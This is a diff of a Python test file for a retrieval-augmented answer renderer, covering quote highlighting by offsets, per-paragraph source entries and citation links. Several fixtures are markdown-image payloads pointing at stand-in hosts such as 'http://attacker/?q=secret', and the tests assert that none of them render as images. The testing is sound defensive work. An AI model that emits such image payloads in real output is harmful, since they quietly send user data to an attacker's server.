@@ -5,7 +5,7 @@ import html
 import pytest
 from markdown_it import MarkdownIt
 
-from rag.render import answer_markdown, escape_markdown, quote_in_context
+from rag.render import answer_markdown, escape_markdown, quotes_in_paragraph
 
 HOSTILE = [
     "![x](http://attacker/?q=secret)",
@@ -46,19 +46,59 @@ def test_only_known_markers_become_links():
     assert out.count("<a ") == 1 and 'href="#source-3-1"' in out and "[9]" in out and "<img" not in out
 
 
-def test_quote_in_context_highlights_by_offsets_and_fails_closed():
+def test_a_quote_is_highlighted_in_its_paragraph_by_offsets_and_fails_closed():
     text = "Headline\nFirst sentence. The cited one. Last one.\nNext paragraph."
     start = text.index("The cited")
-    ctx = quote_in_context(text, start, start + 14, "The cited one.")
-    assert (ctx.before, ctx.quote, ctx.after) == ("First sentence. ", "The cited one.", " Last one.")
-    assert ":orange-background[The cited one\\.]" in ctx.markdown()
-    assert quote_in_context(text, start + 1, start + 15, "The cited one.") is None  # offsets do not match
-    assert quote_in_context(text, start, len(text) + 5, "The cited one.") is None
-    assert quote_in_context("changed article", 0, 5, "The c") is None
+    shown = quotes_in_paragraph(text, [(start, start + 14, "The cited one.")])
+    assert shown.pieces == (("First sentence. ", False), ("The cited one.", True), (" Last one.", False))
+    assert ":orange-background[**The cited one\\.**]" in shown.markdown()
+    assert quotes_in_paragraph(text, [(start + 1, start + 15, "The cited one.")]) is None  # offsets do not match
+    assert quotes_in_paragraph(text, [(start, len(text) + 5, "The cited one.")]) is None
+    assert quotes_in_paragraph("changed article", [(0, 5, "The c")]) is None
 
 
 def test_long_paragraphs_are_trimmed_around_the_quote():
     text = "word " * 500 + "THE QUOTE." + " tail" * 500
     start = text.index("THE QUOTE.")
-    ctx = quote_in_context(text, start, start + 10, "THE QUOTE.")
-    assert ctx.before.startswith("…") and ctx.after.endswith("…") and len(ctx.before) < 400
+    before, _, after = quotes_in_paragraph(text, [(start, start + 10, "THE QUOTE.")]).pieces
+    assert before[0].startswith("…") and after[0].endswith("…") and len(before[0]) < 400
+
+
+ARTICLE = ("Talks collapse\n"
+           "The summit was cancelled on Tuesday. Officials cited “no progress”. ![x](http://evil/p.png) Talks end.\n"
+           "A later paragraph said the sanctions hit Rosneft.")
+
+
+def _citation(n, quote, source="a.txt"):
+    start = ARTICLE.index(quote)
+    return {"id": n, "source": source, "title": "Talks", "quote": quote, "start": start, "end": start + len(quote),
+            "also_in": [], "passage_id": "p1"}
+
+
+def test_one_entry_per_cited_paragraph_with_every_quote_in_it_highlighted():
+    from rag.render import source_entries
+
+    citations = [_citation(1, "The summit was cancelled on Tuesday."), _citation(2, "the sanctions hit Rosneft."),
+                 _citation(3, "Talks end.")]
+    entries = source_entries(citations, {"a.txt": ARTICLE})
+    assert [e["ids"] for e in entries] == [[1, 3], [2]]
+    html_out = rendered(entries[0]["markdown"])
+    assert html_out.count(":orange-background[") == 2 and "<img" not in html_out and "Officials cited" in html_out
+    assert "later paragraph" not in html_out
+
+
+def test_a_changed_article_gets_no_highlight_at_all():
+    from rag.render import source_entries
+
+    entries = source_entries([_citation(1, "The summit was cancelled on Tuesday.")],
+                             {"a.txt": ARTICLE.replace("Tuesday", "Monday")})
+    assert entries[0]["markdown"] is None and entries[0]["quotes"] == ["The summit was cancelled on Tuesday."]
+    assert source_entries([_citation(1, "Talks end.")], {"a.txt": None})[0]["markdown"] is None
+
+
+def test_markers_carry_their_quote_as_a_plain_title_and_lead_to_their_entry():
+    out = answer_markdown('Cancelled [1], then [3].', {1: 'He said "no" ![x](http://e/p)', 3: "Talks end."}, 0,
+                          {1: 1, 3: 1})
+    html_out = rendered(out)
+    assert 'href="#source-0-1" title="He said &quot;no&quot; ![x](http://e/p)"' in html_out
+    assert html_out.count('href="#source-0-1"') == 2 and "<img" not in html_out
